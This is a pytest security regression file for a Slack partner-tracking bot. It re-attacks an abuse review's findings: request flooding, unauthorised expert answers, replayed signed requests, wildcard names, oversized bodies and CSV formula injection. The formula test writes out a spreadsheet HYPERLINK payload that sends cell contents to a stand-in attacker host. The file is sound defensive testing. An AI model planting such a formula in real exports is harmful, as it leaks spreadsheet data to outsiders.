"""The abuse review's findings (issue 20), each attacked again over signed HTTP, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
import socket
import time
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from sqlmodel import col, select

from bot.clock import FixedClock
from bot.i18n import t
from bot.ids import Action, View
from bot.ids import Block as BlockId
from bot.partners.io import FORMULA_STARTS, export_partners, import_partners
from bot.server import QuestionPool, serve_metrics
from storage import knowledge as knowledge_store
from storage.db import Database
from storage.models import KnowledgeEntry, Question
from tests.conftest import ADMIN, RunningBot, bots_started
from tests.partners.conftest import Book, fill
from tests.qa.test_e2e import button, posts_to, submit
from tests.slack_standin import TEAM_ID, Fault, SlackStandIn, text_of

ALICE, BRUNO, CHLOE = "U0ALICE01", "U0BRUNO01", "U0CHLOE01"
EXPERT = CHLOE
Start = Callable[..., RunningBot]


@pytest.fixture
def start(standin: SlackStandIn, database_url: str, db: Database, clock: FixedClock) -> Iterator[Start]:
    """Start the bot with the tests' usual settings, CHLOE as its expert, and any override."""
    fill(db)
    with bots_started(standin, database_url, db, clock, experts=frozenset({EXPERT})) as starter:
        yield starter


def questions(db: Database) -> list[Question]:
    with db.session() as session:
        return list(session.exec(select(Question).order_by(col(Question.id))))


def entries(db: Database) -> list[KnowledgeEntry]:
    with db.session() as session:
        return knowledge_store.list_entries(session=session)


def command(bot: RunningBot, standin: SlackStandIn, name: str, text: str, user: str) -> dict[str, Any]:
    status, _, key = bot.sender.command(name, text, user)
    assert status == 200
    return standin.wait_response(key)


def assert_mrkdwn_is_inert(standin: SlackStandIn) -> None:
    """No `<` the bot sent opens anything but a mention, a channel or a link it wrote on purpose."""
    sent = [json.dumps(c.args, ensure_ascii=False) for c in standin.calls]
    sent += [json.dumps(r["payload"], ensure_ascii=False) for r in standin.responses]
    for text in sent:
        for after in text.split("<")[1:]:
            assert after[:1] in "@#!" or after.startswith(("http", "mailto")), after[:60]


# ---- 1 and 9: bounded work, questions on their own pool -----------------------------------------
def test_a_dm_repeating_a_name_is_answered_at_once(start: Start, standin: SlackStandIn) -> None:
    """The review's 1,999-character DM took 19.7 s in decide(); the stand-in waits 5 s at most."""
    bot = start()
    bot.sender.direct_message(ALICE, "Is Zq in? x" + "Zq" * 994)
    assert standin.wait_for(lambda s: posts_to(s, "D0ALICE01"))


def test_a_flood_of_questions_never_holds_commands_and_the_overflow_hears_busy(
    start: Start, standin: SlackStandIn
) -> None:
    bot = start(questions=QuestionPool(workers=1, backlog=1))
    # The first answer hangs in Slack: the one question thread is held, one more question may wait.
    standin.fail_next("chat.postMessage", Fault(status=200, hang_s=3.0))
    bot.sender.direct_message(ALICE, "When is the deadline? (0)")
    standin.wait_for(lambda s: questions(bot.rt.db))  # logged: its answer is on its way to the hanging Slack
    for n in (1, 2):
        bot.sender.direct_message(ALICE, f"When is the deadline? ({n})")
    busy = standin.wait_for(lambda s: [p for p in posts_to(s, "D0ALICE01") if t("qa.busy", "en") in text_of(p)])
    assert len(busy) == 1
    # Commands and clicks answer while the question thread is still held.
    status, _, key = bot.sender.command("/partner", "show LNK-0000", BRUNO)
    assert status == 200
    shown = standin.wait_response(key)
    first_answer = standin.wait_for(
        lambda s: [c for c in s.calls_to("chat.postMessage") if "16 September" in text_of(c.args)], timeout=10
    )[0]
    assert "LNK-0000" in text_of(shown)
    assert next(r["at"] for r in standin.responses if r["key"] == key) < first_answer.at
    standin.wait_for(lambda s: len([p for p in posts_to(s, "D0ALICE01") if "16 September" in text_of(p)]) == 2)


def test_partner_update_with_many_status_words_is_answered(start: Start, standin: SlackStandIn) -> None:
    bot = start()
    words = " ".join(["contacted", "registered", "en cours", "refusé"] * 20)
    reply = command(bot, standin, "/partner", f"update Nobody Known Here {words}", ALICE)
    assert "partner" in text_of(reply).lower()
    assert Book(bot.rt.db).partner("LNK-0000").status == "not_contacted"


# ---- 2: only experts answer for the bot ---------------------------------------------------------
def _unknown_question(bot: RunningBot, standin: SlackStandIn, text: str = "Will Linksys warranties stay?") -> str:
    bot.sender.direct_message(ALICE, text)
    request = standin.wait_for(lambda s: posts_to(s, "C0EXPERTS1"))[-1]
    return str(button(request, Action.EXPERT_ANSWER)["value"])


def _modal(question_id: str) -> dict[str, Any]:
    return {"callback_id": View.EXPERT_ANSWER, "private_metadata": question_id}


def test_only_experts_and_admins_open_or_submit_the_expert_form(start: Start, standin: SlackStandIn) -> None:
    bot = start()
    question_id = _unknown_question(bot, standin)
    # The asker answering their own question, with a link of their choosing: refused, nothing stored.
    _, _, key = bot.sender.click(ALICE, Action.EXPERT_ANSWER, question_id, channel="C0EXPERTS1")
    assert "Only the bot's experts and admins" in text_of(standin.wait_response(key))
    assert not standin.calls_to("views.open")
    status, body = submit(bot, ALICE, _modal(question_id), {BlockId.ANSWER: "See http://evil.example"})
    assert status == 200 and json.loads(body)["response_action"] == "errors"
    assert "Only the bot's experts" in json.dumps(json.loads(body)["errors"])
    assert not entries(bot.rt.db) and questions(bot.rt.db)[-1].answered_by is None

    # The expert named in EXPERT_USER_IDS may, and the answer carries their name.
    bot.sender.click(EXPERT, Action.EXPERT_ANSWER, question_id, channel="C0EXPERTS1")
    standin.wait_for(lambda s: s.calls_to("views.open"))
    status, _ = submit(bot, EXPERT, _modal(question_id), {BlockId.ANSWER: "Yes, they stay valid."})
    assert status == 200
    dm = standin.wait_for(lambda s: [p for p in posts_to(s, ALICE) if "stay valid" in text_of(p)])[0]
    assert f"<@{EXPERT}> answered your question" in text_of(dm) and "our expert" not in text_of(dm)
    bot.sender.direct_message(BRUNO, "will linksys warranties stay?")
    again = standin.wait_for(lambda s: posts_to(s, "D0BRUNO01"))[0]
    assert "stay valid" in text_of(again)
    assert f"Source: answer from our expert <@{EXPERT}> (Tuesday 2 September 2008)" in text_of(again)


def test_a_question_the_bot_answered_cannot_be_expert_answered(start: Start, standin: SlackStandIn) -> None:
    bot = start()
    bot.sender.direct_message(ALICE, "When is the deadline?")
    standin.wait_for(lambda s: posts_to(s, "D0ALICE01"))
    answered = str(questions(bot.rt.db)[-1].id)
    _, _, key = bot.sender.click(ADMIN, Action.EXPERT_ANSWER, answered, channel="C0EXPERTS1")
    assert "nothing for an expert to add" in text_of(standin.wait_response(key))
    submit(bot, ADMIN, _modal(answered), {BlockId.ANSWER: "The deadline moved to 1 October."})
    standin.wait_for(lambda s: [p for p in posts_to(s, ADMIN) if "nothing for an expert" in text_of(p)])
    assert not entries(bot.rt.db)
    assert not [p for p in posts_to(standin, ALICE) if "1 October" in text_of(p)]


def test_without_an_experts_channel_questions_wait_in_the_gaps(start: Start, standin: SlackStandIn) -> None:
    bot = start(experts_channel=None)
    bot.sender.direct_message(ALICE, "Will Linksys warranties stay?")
    reply = standin.wait_for(lambda s: posts_to(s, "D0ALICE01"))[0]
    assert "I don't know" in text_of(reply) and "passed your question on" not in text_of(reply)
    assert all(c.args.get("channel") in ("D0ALICE01", ALICE) for c in standin.calls_to("chat.postMessage"))
    gaps = command(bot, standin, "/transition", "faq gaps", ADMIN)
    assert "Will Linksys warranties stay?" in text_of(gaps)
    assert "faq edit &lt;entry&gt;" in json.dumps(gaps, ensure_ascii=False)
    assert_mrkdwn_is_inert(standin)


# ---- 4: one post per message, a cap per person --------------------------------------------------
def test_a_long_message_escalates_once_with_all_its_unknown_parts(start: Start, standin: SlackStandIn) -> None:
    bot = start()
    unknown = [f"What is the price of the Cisco mug number {n}?" for n in range(30)]
    bot.sender.direct_message(ALICE, "Who is the CEO of Cisco? " + " ".join(unknown))
    standin.wait_for(lambda s: posts_to(s, "C0EXPERTS1"))
    bot.stop()  # waits for the message's work to end
    (post,) = posts_to(standin, "C0EXPERTS1")
    # However the engine splits it (its first MAX_PARTS questions, or the whole), the unknown questions are in it.
    assert "mug number 0" in text_of(post) and "mug number 3" in text_of(post)


def test_a_person_escalates_at_most_n_questions_an_hour(start: Start, standin: SlackStandIn) -> None:
    bot = start(escalations_per_hour=2)
    asked = ["Will Linksys warranties stay?", "Is there a registration fee?", "Do I get a free T-shirt?"]
    for n, text in enumerate(asked, start=1):
        bot.sender.direct_message(ALICE, text)
        standin.wait_for(lambda s, n=n: len(posts_to(s, "D0ALICE01")) == n)
        standin.wait_for(lambda s, n=n: sum(1 for q in questions(bot.rt.db) if q.expert_ts) == min(n, 2))
    assert len(posts_to(standin, "C0EXPERTS1")) == 2
    last = posts_to(standin, "D0ALICE01")[-1]
    assert t("qa.capped", "en") in text_of(last) and "passed your question on" not in text_of(last)
    gaps = command(bot, standin, "/transition", "faq gaps", ADMIN)
    assert "free T-shirt" in text_of(gaps)
    # Another person is not held by ALICE's share.
    bot.sender.direct_message(BRUNO, "Is there a webinar recording in Klingon?")
    standin.wait_for(lambda s: len(posts_to(s, "C0EXPERTS1")) == 3)


# ---- 3: formula injection in exports -------------------------------------------------------------
def spreadsheet_cells(csv_text: str) -> list[list[tuple[str, str]]]:
    """Read a CSV the way a spreadsheet does: `'` marks text (and is hidden), `=`, `+`, `-`, `@` start formulas."""
    rows = []
    for row in csv.reader(io.StringIO(csv_text)):
        cells = []
        for value in row:
            if value.startswith("'"):
                cells.append(("text", value[1:]))
            elif value.startswith(FORMULA_STARTS[:4]) and len(value) > 1 and not value[1:].isdigit():
                cells.append(("formula", value))
            else:
                cells.append(("text", value))
        rows.append(cells)
    return rows


def test_a_note_typed_in_slack_is_no_formula_in_the_export(start: Start, standin: SlackStandIn) -> None:
    bot = start()
    evil = '=HYPERLINK("http://evil.example/?"&B2&C2,"details")'
    command(bot, standin, "/partner", f"update LNK-0000 contacted {evil}", ALICE)
    imported = (
        "partner_id,name,country,owner_email\n"
        "LNK-7001,=1+2,+33,alice@example.com\n"
        "LNK-7002,@SUM(A1),-FR,alice@example.com\n"
        "LNK-7003,''=quoted twice,FR,alice@example.com\n"
    )
    assert import_partners(bot.rt, imported.encode(), resolve_owners=False).ok
    out = io.StringIO()
    export_partners(bot.rt, out)
    exported = out.getvalue()
    cells = spreadsheet_cells(exported)
    assert not [cell for row in cells for cell in row if cell[0] == "formula"]
    shown = {row[0][1]: [value for _, value in row] for row in cells[1:]}
    assert shown["LNK-0000"][8] == evil  # the note, shown as typed
    assert shown["LNK-7001"][1:3] == ["=1+2", "+33"]
    assert shown["LNK-7003"][1] == "'=quoted twice"

    # The export imports again unchanged: the prefix is stripped on the way in.
    before = {k: (p.name, p.country) for k, p in _partners(bot).items()}
    report = import_partners(bot.rt, exported.encode(), resolve_owners=False)
    assert report.ok and report.created == 0
    assert {k: (p.name, p.country) for k, p in _partners(bot).items()} == before
    assert before["LNK-7003"] == ("'=quoted twice", "FR")


def _partners(bot: RunningBot) -> dict[str, Any]:
    from storage.partners import iter_partners

    with bot.rt.db.session() as session:
        return {p.partner_id: p for p in iter_partners(session=session)}


# ---- 5: no replays -------------------------------------------------------------------------------
def _form(command_name: str, text: str, user: str, standin: SlackStandIn, key: str) -> bytes:
    return urllib.parse.urlencode(
        {
            "token": "unused",
            "team_id": TEAM_ID,
            "channel_id": "C0SALES01",
            "user_id": user,
            "command": command_name,
            "text": text,
            "api_app_id": "A0STANDIN",
            "response_url": standin.response_url(key),
            "trigger_id": f"{key}.trigger",
        }
    ).encode()


def test_a_replayed_command_or_click_gets_200_and_changes_nothing(start: Start, standin: SlackStandIn) -> None:
    bot = start()
    book = Book(bot.rt.db)
    body = _form("/partner", "update LNK-0000 contacted", ALICE, standin, "replayed")
    stamp = str(int(time.time()))
    status, _, _ = bot.sender.post(body, "application/x-www-form-urlencoded", timestamp=stamp)
    assert status == 200
    reply = standin.wait_response("replayed")
    assert book.partner("LNK-0000").status == "contacted"
    undo = next(e for b in reply["blocks"] for e in b.get("elements", []) if e.get("action_id") == Action.PARTNER_UNDO)
    click = {
        "type": "block_actions",
        "team": {"id": TEAM_ID},
        "user": {"id": ALICE},
        "api_app_id": "A0STANDIN",
        "trigger_id": "click.trigger",
        "channel": {"id": "C0SALES01"},
        "container": {"type": "message", "message_ts": "1.000001"},
        "response_url": standin.response_url("undo"),
        "actions": [{"type": "button", "action_id": Action.PARTNER_UNDO, "block_id": "b", "value": undo["value"]}],
    }
    click_body = urllib.parse.urlencode({"payload": json.dumps(click)}).encode()
    bot.sender.post(click_body, "application/x-www-form-urlencoded", timestamp=stamp)
    standin.wait_response("undo")
    assert book.partner("LNK-0000").status == "not_contacted"

    # The captured command, and the captured click, sent again within Slack's 5 minutes.
    again, body_again, _ = bot.sender.post(body, "application/x-www-form-urlencoded", timestamp=stamp)
    click_again, _, _ = bot.sender.post(click_body, "application/x-www-form-urlencoded", timestamp=stamp)
    assert (again, body_again, click_again) == (200, b"", 200)
    # A fresh command behind them is handled: the replays were dropped, not queued.
    command(bot, standin, "/partner", "show LNK-0000", ALICE)
    assert book.partner("LNK-0000").status == "not_contacted"
    assert [h.source for h in book.history("LNK-0000")] == ["import", "command", "undo"]
    assert len(standin.responses_to("replayed")) == 1 and len(standin.responses_to("undo")) == 1


# ---- 6: partner names are no LIKE patterns -------------------------------------------------------
def test_wildcard_partner_names_match_no_question(start: Start, standin: SlackStandIn) -> None:
    bot = start()
    wild = "partner_id,name,country,owner_email\n" + "".join(
        f"LNK-80{n:02d},{'%' * (40 + n)},FR,alice@example.com\n" for n in range(8)
    )
    assert import_partners(bot.rt, (wild + "LNK-8099,_ _ _ _,FR,alice@example.com\n").encode()).ok
    with bot.rt.db.session() as session:
        named = knowledge_store.partners_named_in(session=session, folded_text="status of orphan networks")
    assert [p.partner_id for p in named] == ["LNK-5000"]  # the longer wildcard names once crowded it out
    bot.sender.direct_message(ALICE, "What's the status of Orphan Networks?")
    answer = text_of(standin.wait_for(lambda s: posts_to(s, "D0ALICE01"))[0])
    assert "LNK-5000" in answer and "Several partners match" not in answer and "%%%" not in answer


# ---- 7: request size, /metrics -------------------------------------------------------------------
def test_a_body_over_the_limit_gets_413_before_it_is_sent(start: Start) -> None:
    bot = start(max_request_bytes=100_000)
    host, port = bot.url.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=10) as conn:
        conn.sendall(
            b"POST /slack/events HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
            b"Content-Length: 30000000\r\n\r\n"
        )
        answer = conn.recv(1024)  # not one byte of the 30 MB was sent
    assert answer.startswith(b"HTTP/1.1 413")
    # Under the limit, an unsigned body is still refused as unsigned.
    request = urllib.request.Request(f"{bot.url}/slack/events", data=b"{}" * 1000, method="POST")
    with pytest.raises(urllib.error.HTTPError) as refused:
        urllib.request.urlopen(request, timeout=10)
    assert refused.value.code == 401


def _get(url: str) -> int:
    try:
        with urllib.request.urlopen(url, timeout=10) as response:
            return int(response.status)
    except urllib.error.HTTPError as exc:
        return exc.code


def test_metrics_can_move_to_their_own_address_or_be_off(start: Start) -> None:
    same = start()
    assert _get(f"{same.url}/metrics") == 200
    off = start(metrics_bind="off")
    assert _get(f"{off.url}/metrics") == 404 and _get(f"{off.url}/healthz") == 200
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        free = probe.getsockname()[1]
    stop = serve_metrics("127.0.0.1", free)
    try:
        assert _get(f"http://127.0.0.1:{free}/metrics") == 200
        assert _get(f"http://127.0.0.1:{free}/slack/events") == 404
    finally:
        stop()


# ---- 8: mrkdwn placeholders ----------------------------------------------------------------------
def test_help_footers_and_hints_escape_their_placeholders(start: Start, standin: SlackStandIn) -> None:
    bot = start()
    command(bot, standin, "/partner", "help", ALICE)
    command(bot, standin, "/partner", "show Nobody At All Here", ALICE)
    command(bot, standin, "/transition", "faq nonsense", ADMIN)
    command(bot, standin, "/transition", "faq gaps", ADMIN)
    assert_mrkdwn_is_inert(standin)
